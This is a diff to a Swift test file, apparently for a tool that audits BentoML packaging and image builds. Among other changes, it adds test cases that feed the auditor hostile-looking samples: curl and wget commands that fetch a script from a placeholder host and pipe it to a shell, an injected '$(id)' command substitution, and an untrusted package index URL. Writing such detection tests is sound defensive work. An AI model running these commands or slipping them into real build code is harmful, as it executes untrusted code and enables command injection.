@@ -101,7 +101,7 @@ struct PackagingTests {
         #expect(result.findings.contains { $0.rule == "BKL-B009" } == isPacked)
     }
 
-    @Test("A pattern that could be matched in many ways takes no time", .timeLimit(.minutes(1)))
+    @Test("A pattern that could be matched in many ways takes no time", .timeLimit(.minutes(10)))
     func slowPattern() {
         let stars = String(repeating: "*a", count: 5000)
         let globs = String(repeating: "**/a/", count: 30)
@@ -110,6 +110,24 @@ struct PackagingTests {
         let directories = String(repeating: "a/", count: 60)
         let result = RuleExampleTests.audit(.files(["bentofile.yaml": build, directories + name: "x"]))
         #expect(!result.findings.contains { $0.rule == "BKL-B009" })
+    }
+
+    @Test(
+        "An image that is built by calls is judged as one of a build file",
+        arguments: [
+            (".run('curl https://h.example/a | sh')", "BKL-D", true), (".run('ls -l')", "BKL-D", false),
+            (".run('true').run('set -e\\nwget -O- http://h.example/a | bash')", "BKL-D", true),
+            (".python_packages('torch')", "BKL-B001", true), (".python_packages('torch==2.4.0')", "BKL-B001", false),
+            (".python_packages('--index-url http://h.example/simple', 'a==1')", "BKL-B004", true),
+            (".requirements_file('../../requirements.txt')", "BKL-B013", true),
+            (".python_packages('a==1')", "BKL-B010", false), (".system_packages(*['a', '$(id)'])", "BKL-B014", true),
+        ]
+    )
+    func images(_ calls: String, _ rule: String, _ isFound: Bool) {
+        let source = "from bentoml.images import Image\nbase = Image(base_image='python:3.11')\nimage = base\(calls)\n"
+        let findings = RuleExampleTests.audit(.file("service.py", source)).findings
+        #expect(findings.contains { $0.rule.hasPrefix(rule) && $0.place.line == 3 } == isFound, "\(findings)")
+        #expect(findings.contains { $0.rule == "BKL-B012" && $0.place.line == 2 })
     }
 
     @Test("A link that is packed and leads out is found")
